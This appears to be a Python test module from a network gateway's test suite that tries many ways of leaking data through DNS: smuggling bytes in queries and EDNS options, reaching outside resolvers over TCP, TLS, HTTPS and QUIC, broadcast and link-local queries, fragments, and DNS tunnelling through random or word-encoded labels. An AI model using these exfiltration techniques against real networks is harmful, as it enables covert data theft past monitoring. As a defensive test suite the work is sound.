"""DNS as a way out: past the resolver, around it, and through it as a letter to whoever answers for an allowed name.

What a resolver asks upstream goes to the zone's own servers. So whatever stands in a query beside its question must not be
passed on, and the questions themselves are counted.
"""

import os
import socket
import struct
import time
from collections.abc import Callable, Iterator

from gateway.model.device import mac_to_bytes

from .. import frame
from ..hello import client_hello, records
from .case import BAD, GOOD, Attempt, Case
from .quic import initial, pieces

A, NULL, SOA, TXT, OPT, ANY = 1, 10, 6, 16, 41, 255
PADDING, COOKIE, LOCAL = 12, 10, 65001
RECURSION = 0x0100
PUBLIC4, NEIGHBOUR4 = "8.8.8.8", "10.77.0.101"
TUNNEL_QUERIES = 150
TUNNEL_BYTES = 1_024
"""What may leave in an hour through names of one domain that look like code."""
POINTED = "who answers for an allowed name decides where it points, and is spoken to there"
WORDS = "amber birch cedar delta ember fjord grove heath inlet jetty knoll larch maple north ocean petal".split()


def labels(name: str | bytes) -> bytes:
    """A name as it stands in a message."""
    raw = name.encode() if isinstance(name, str) else name
    return b"".join(bytes([len(label)]) + label for label in raw.split(b".")) + b"\0"


def query(name: bytes, *, kind: int = A, flags: int = RECURSION, counts: tuple[int, int, int, int] = (1, 0, 0, 0)) -> bytes:
    """``name`` as ``labels`` writes it."""
    return os.urandom(2) + struct.pack("!5H", flags, *counts) + name + struct.pack("!HH", kind, 1)


def option(code: int, data: bytes) -> bytes:
    """An EDNS record with one option (RFC 6891)."""
    return b"\0" + struct.pack("!HHIH", OPT, 1232, 0, 4 + len(data)) + struct.pack("!HH", code, len(data)) + data


def text(data: bytes) -> bytes:
    """A TXT record that nobody asked for."""
    return b"\x01x\0" + struct.pack("!HHIH", TXT, 1, 0, 1 + len(data)) + bytes([len(data)]) + data


def fresh(attempt: Attempt, label: str = "") -> bytes:
    """A name below the allowed one that no cache knows."""
    return labels(f"{label or os.urandom(4).hex()}.{GOOD}")


def ask(attempt: Attempt, data: bytes, *, server: str = "", port: int = 53, sport: int = 0, timeout_s: float = 0.2) -> bytes:
    """One datagram to a resolver; its answer, or nothing."""
    server = server or attempt.resolver
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(timeout_s)
        if sport:
            sock.bind(("", sport))
        sock.connect((server, port))
        try:
            sock.send(data)
            return sock.recv(4096)
        except OSError:
            return b""


def _told(answer: bytes) -> str:
    return f"code {answer[3] & 15}, {int.from_bytes(answer[6:8])} records" if answer else "no answer"


# Through the resolver.


def write_behind(attempt: Attempt) -> str:
    return _told(ask(attempt, query(fresh(attempt)) + attempt.payload(400)))


def write_in_padding(attempt: Attempt) -> str:
    return _told(ask(attempt, query(fresh(attempt), counts=(1, 0, 0, 1)) + option(PADDING, attempt.payload(400))))


def write_in_options(attempt: Attempt) -> str:
    told = [
        ask(attempt, query(fresh(attempt), counts=(1, 0, 0, 1)) + option(code, attempt.payload(size)))
        for code, size in ((LOCAL, 400), (COOKIE, 40), (8, 24), (3, 100))
    ]
    return _told(told[-1])


def write_in_additional(attempt: Attempt) -> str:
    return _told(ask(attempt, query(fresh(attempt), counts=(1, 0, 0, 1)) + text(attempt.payload(200))))


def write_in_authority(attempt: Attempt) -> str:
    return _told(ask(attempt, query(fresh(attempt), counts=(1, 0, 1, 0)) + text(attempt.payload(200))))


def write_in_answers(attempt: Attempt) -> str:
    return _told(ask(attempt, query(fresh(attempt), counts=(1, 1, 0, 0)) + text(attempt.payload(200))))


def write_second_question(attempt: Attempt) -> str:
    second = labels(f"{attempt.token.hex()}.{GOOD}") + struct.pack("!HH", A, 1)
    return _told(ask(attempt, query(fresh(attempt), counts=(2, 0, 0, 0)) + second))


def write_other_operations(attempt: Attempt) -> str:
    """NOTIFY, UPDATE, STATUS, and one that does not exist."""
    for opcode in (4, 5, 2, 11):
        said = query(fresh(attempt), kind=SOA, flags=opcode << 11 | RECURSION)
        ask(attempt, said + text(attempt.payload(100)), timeout_s=0.2)
    return ""


def write_other_types(attempt: Attempt) -> str:
    """TXT, NULL and ANY, with bytes behind the question."""
    for kind in (TXT, NULL, ANY):
        ask(attempt, query(fresh(attempt), kind=kind) + attempt.payload(300), timeout_s=0.2)
    return ""


def write_raw_labels(attempt: Attempt) -> str:
    """A label of bytes that no host has in its name."""
    return _told(ask(attempt, query(b"\x08" + attempt.token + fresh(attempt, "raw"))))


def write_to_refused(attempt: Attempt) -> str:
    """A refused zone: its names are answered here."""
    return _told(ask(attempt, query(labels(f"{attempt.token.hex()}.{BAD}")) + attempt.payload(300)))


def write_as_answer(attempt: Attempt) -> str:
    return _told(ask(attempt, query(fresh(attempt), flags=0x8180) + attempt.payload(300)))


def _coded(token: bytes) -> Iterator[str]:
    for number in range(TUNNEL_QUERIES):
        yield ".".join((os.urandom(27).hex(), os.urandom(27).hex(), f"{number:04x}" + token.hex()))


def _worded(token: bytes) -> Iterator[str]:
    """Four bits a word, in labels that look like any other."""
    yield token.hex()
    for _ in range(TUNNEL_QUERIES):
        yield ".".join("-".join(WORDS[byte >> 4] for byte in os.urandom(2)) for _ in range(3))


def tunnel(attempt: Attempt, names: Iterator[str]) -> str:
    """As fast as the answers come."""
    answered = 0
    began = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.02)
        sock.connect((attempt.resolver, 53))
        for name in names:
            sock.send(query(labels(f"{name}.{GOOD}")))
            try:
                answered += bool(sock.recv(4096)[3] & 15 == 3)
            except OSError:
                continue
    return f"{TUNNEL_QUERIES} names asked in {time.monotonic() - began:.1f} s, {answered} answered by the zone"


def tunnel_coded(attempt: Attempt) -> str:
    return tunnel(attempt, _coded(attempt.token))


def tunnel_worded(attempt: Attempt) -> str:
    return tunnel(attempt, _worded(attempt.token))


def ask_ordinarily(attempt: Attempt) -> str:
    """What an honest stub sends, EDNS and mixed case included, must be answered, with the question as it was asked."""
    name = labels("gOoD.rOgUe.ExAmPlE")
    for data in (query(name), query(name, counts=(1, 0, 0, 1)) + option(COOKIE, os.urandom(8))):
        answer = ask(attempt, data, timeout_s=1.5)
        if int.from_bytes(answer[6:8]) < 1 or name not in answer or answer[:2] != data[:2]:
            raise ValueError(f"an ordinary query was not answered: {_told(answer)}")
    return _told(answer)


def ask_for_many(attempt: Attempt) -> str:
    """An answer of 500 addresses does not fit into a datagram: it says that it was cut, and repeats the question."""
    name = labels(f"many.{GOOD}")
    question = query(name)
    answer = ask(attempt, question, timeout_s=1.5)
    honest = answer[:2] == question[:2] and answer[3:4] and answer[3] & 15 == 0 and name in answer
    if not honest or not answer[2] & 2 or len(answer) > 1_232:
        raise ValueError(f"no honest answer: {_told(answer)}, {len(answer)} bytes")
    return f"{_told(answer)}, cut, {len(answer)} bytes"


def use_fleeting(attempt: Attempt) -> str:
    """An address with a TTL of 0 is still this name's address a moment later."""
    answer = ask(attempt, query(labels(f"fleeting.{GOOD}")), timeout_s=1.5)
    address = socket.inet_ntoa(answer[-4:])
    time.sleep(0.3)
    with socket.create_connection((address, 443), timeout=1.5) as sock:
        sock.sendall(records(client_hello(f"fleeting.{GOOD}")))
        got = sock.recv(100)
    if not got:
        raise ValueError("no answer")
    return f"{len(got)} bytes came back"


# Past the resolver.


def _over_tcp(attempt: Attempt, address: str, port: int, data: bytes) -> str:
    with attempt.attacker.stream(address, port) as stream:
        stream.connect(timeout_s=0.4)
        stream.write(data)
        stream.read(0.2)
        return "reset" if stream.reset else f"{len(stream.received)} bytes came back"


def ask_over_tcp(attempt: Attempt) -> str:
    said = query(fresh(attempt, attempt.token.hex())) + attempt.payload(500)
    message = len(said).to_bytes(2) + said
    servers = (*attempt.targets, PUBLIC4, attempt.attacker.gateway4)
    return ", ".join(_over_tcp(attempt, server, 53, message) for server in servers)


def ask_over_tls(attempt: Attempt) -> str:
    hello = records(client_hello(GOOD, stamp=attempt.token, alpn=(b"dot",)))
    return ", ".join(_over_tcp(attempt, address, 853, hello) for address in (attempt.target4, attempt.target6))


def ask_over_https(attempt: Attempt) -> str:
    """A known resolver's name, one that nobody knows, and an address instead of a name."""
    for name in ("dns.google", "cloudflare-dns.com", "doh.resolver-of-my-own.example", attempt.target4):
        _over_tcp(attempt, attempt.fresh().four, 443, records(client_hello(name, stamp=attempt.token, alpn=(b"h2",))))
    return ""


def ask_over_quic(attempt: Attempt) -> str:
    to = os.urandom(8)
    hello = initial(pieces(client_hello(GOOD, stamp=attempt.token, alpn=(b"doq",)), 4000), to=to)
    for port in (853, 784, 8853):
        attempt.attacker.send_udp(hello, attempt.target4, port)
    time.sleep(0.1)
    return ""


def ask_on_other_ports(attempt: Attempt) -> str:
    """Plain DNS where nobody expects it; port 5353 as mDNS has it, to the internet."""
    said = query(fresh(attempt, attempt.token.hex())) + attempt.payload(200)
    for port in (54, 5353, 5355, 5300, 1053, 9953, 443):
        for address in attempt.targets:
            attempt.attacker.send_udp(said, address, port, sport=5353 if port == 5353 else 0)
    time.sleep(0.1)
    return ""


def ask_others(attempt: Attempt) -> str:
    """Resolvers of its own choice: the redirect answers, and not one byte comes there."""
    said = query(labels(GOOD))
    told = [ask(attempt, said, server=server, timeout_s=1.0) for server in attempt.targets]
    attempt.attacker.send_udp(attempt.payload(300), attempt.target4, 53)
    return " / ".join(map(_told, told))


def reuse_port(attempt: Attempt) -> str:
    """A refused name, and from the same port at once the next query to the same server: the redirect must still hold."""
    told = []
    for number, server in enumerate(attempt.targets):
        sport = 40_500 + number
        for name in (BAD, GOOD, BAD, GOOD):
            told.append(_told(ask(attempt, query(labels(name)), server=server, sport=sport, timeout_s=0.6)))
        ask(attempt, query(fresh(attempt)) + attempt.payload(100), server=server, sport=sport, timeout_s=0.2)
    return ", ".join(told[:4])


def knock_elsewhere(attempt: Attempt) -> None:
    """Where a resolver may listen too: broadcast, without an address of its own, from port 53, on link-local addresses, on
    other devices, and as an answer."""
    attacker = attempt.attacker
    said = query(fresh(attempt)) + attempt.payload(100)
    for source in (attacker.address4, "0.0.0.0"):
        body = frame.udp(said, src=source, dst="255.255.255.255", sport=40_700, dport=53)
        packet = frame.ipv4(body, src=source, dst="255.255.255.255", proto=frame.UDP)
        attacker.send_ethernet(packet, frame.ETH_IPV4, dst=frame.BROADCAST)
    own = link_local(attacker.mac)
    for source, target in ((own, link_local(attacker.gateway_mac)), (own, "ff02::1"), (attacker.address6, "ff02::fb")):
        attacker.send_udp(said, target, 53, src=source)
    for target in (attempt.target4, attacker.gateway4):
        attacker.send_udp(said, target, 53, sport=53)
        attacker.send_udp(query(fresh(attempt), flags=0x8180) + attempt.payload(100), target, 40_701, sport=53)
    attacker.send_udp(said, NEIGHBOUR4, 53)
    time.sleep(0.2)


def link_local(mac: str) -> str:
    """The address that a kernel makes of a hardware address (RFC 4291, appendix A)."""
    raw = mac_to_bytes(mac)
    return socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + bytes(6) + bytes([raw[0] ^ 2]) + raw[1:3] + b"\xff\xfe" + raw[3:])


def fragment(attempt: Attempt) -> str:
    """A query whose letter comes in a fragment of its own."""
    source, target = attempt.attacker.address4, attempt.target4
    datagram = frame.udp(query(labels(GOOD)) + attempt.payload(800), src=source, dst=target, sport=40_600, dport=53)
    for piece in frame.fragments(datagram, 400, src=source, dst=target, proto=frame.UDP, ident=77):
        attempt.attacker.send_ip(piece)
    time.sleep(0.2)
    return ""


def point_elsewhere(said: str) -> Callable[[Attempt], str]:
    """It learns the refused name's address from an allowed one that has it too, and speaks to it under that name."""

    def play(attempt: Attempt) -> str:
        ask(attempt, query(labels(f"twin.{GOOD}")), timeout_s=1.5)
        with attempt.attacker.stream(attempt.known[BAD][0], 443) as stream:
            stream.connect()
            stream.write(records(client_hello(*([said] if said else []), stamp=attempt.token)))
            stream.read(0.2)
            return "reset" if stream.reset else f"{len(stream.received)} bytes came back"

    return play


CASES = (
    Case(id="ordinary", text="An honest stub's queries are answered", play=ask_ordinarily, passes=True),
    Case(id="behind", text="Bytes behind the question", play=write_behind),
    Case(id="padding", text="EDNS padding that is a letter", play=write_in_padding),
    Case(id="options", text="EDNS options: local, cookie, client subnet, server id", play=write_in_options),
    Case(id="additional", text="A TXT record in the query's additional section", play=write_in_additional),
    Case(id="authority", text="A TXT record in its authority section", play=write_in_authority),
    Case(id="answers", text="A TXT record in its answer section", play=write_in_answers),
    Case(id="second-question", text="A second question", play=write_second_question),
    Case(id="operations", text="NOTIFY, UPDATE, STATUS and unknown operations", play=write_other_operations),
    Case(id="types", text="TXT, NULL and ANY with bytes behind the question", play=write_other_types),
    Case(id="raw-labels", text="Labels of bytes that are no text", play=write_raw_labels),
    Case(id="refused-zone", text="Names below a refused one", play=write_to_refused),
    Case(id="as-answer", text="A query that calls itself an answer", play=write_as_answer),
    Case(id="tcp", text="DNS over TCP to four resolvers", play=ask_over_tcp),
    Case(id="tls", text="DNS over TLS under the allowed name", play=ask_over_tls),
    Case(id="https", text="DNS over HTTPS: known, unknown, and nameless resolvers", play=ask_over_https),
    Case(id="quic", text="DNS over QUIC under the allowed name, on three ports", play=ask_over_quic),
    Case(id="other-ports", text="DNS and mDNS to the internet on seven ports", play=ask_on_other_ports),
    Case(id="other-resolvers", text="Resolvers of its own choice", play=ask_others),
    Case(id="other-doors", text="Broadcast, link-local, from port 53, as an answer, to a neighbour", play=knock_elsewhere),
    Case(id="reused-port", text="The source port of a refused query again", play=reuse_port),
    Case(id="fragments", text="A letter in the second fragment of a query", play=fragment),
    Case(id="two-addresses", text="An allowed name that also points to the refused one's address, which is said there",
         play=point_elsewhere(BAD)),
    Case(id="two-addresses-good", text="The same; another allowed name is said there", play=point_elsewhere(GOOD)),
    Case(id="two-addresses-twin", text="The same; the name that points there is said", play=point_elsewhere(f"twin.{GOOD}"),
         allowance_bytes=8, reason=POINTED),
    Case(id="two-addresses-nameless", text="The same; nothing is said", play=point_elsewhere(""), allowance_bytes=8,
         reason=POINTED),
    Case(id="many-records", text="An answer of 500 records", play=ask_for_many, passes=True),
    Case(id="fleeting", text="An answer with a TTL of 0 is good for a moment later", play=use_fleeting, passes=True),
    Case(
        id="tunnel", text="150 names of random labels below the allowed name", play=tunnel_coded, allowance_bytes=TUNNEL_BYTES,
        reason="a name must be asked to be known; how many and how odd ones a device may ask is limited",
    ),
    Case(
        id="worded-tunnel", text="150 names of six words each", play=tunnel_worded, allowance_bytes=TUNNEL_BYTES,
        reason="the same; what looks like words may be four times as much",
    ),
)
